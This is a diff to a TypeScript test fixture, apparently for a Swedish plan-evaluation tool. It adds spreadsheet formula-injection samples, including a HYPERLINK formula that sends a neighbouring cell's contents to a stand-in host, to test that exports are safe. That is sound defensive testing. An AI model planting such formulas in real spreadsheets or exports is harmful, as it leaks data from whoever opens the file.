@@ -466,3 +466,27 @@ const SAMPLE: PlanEvaluation = {
   ],
 };
 
+
+/** An area title that Excel would run as a formula: a link that sends the next cell away. */
+export const FORMULA_TITLE = '=HYPERLINK("https://example.invalid/?d="&E2;"Klicka här")';
+/** An indicator text that starts like a phone number, which Excel would read as a sum. */
+export const PLUS_TEXT = "+46 470-123 45 svarar på frågor om utbildningen";
+/** A comment that starts with `@`, which Excel would read as a function. */
+export const AT_COMMENT = "@SUMMA(1+1) enligt kommunens rapport";
+
+/**
+ * {@link sampleEvaluation} with text that a spreadsheet would run as a formula: area 1a titled
+ * {@link FORMULA_TITLE}, indicator 1.1-1's text {@link PLUS_TEXT}, and 1.1-1's 2019 observation commented
+ * {@link AT_COMMENT}. 1.3-1 keeps its change of -5 from 2018 to 2019.
+ */
+export function formulaEvaluation(): PlanEvaluation {
+  const evaluation = sampleEvaluation();
+  const area = evaluation.subGoals[0]?.areas[0];
+  const indicator = area?.activities[0]?.indicators[0];
+  const observation = indicator?.years[1]?.observations[0];
+  if (area === undefined || indicator === undefined || observation === undefined) throw new Error("the sample has changed");
+  area.title = FORMULA_TITLE;
+  indicator.text = PLUS_TEXT;
+  observation.comment = AT_COMMENT;
+  return evaluation;
+}
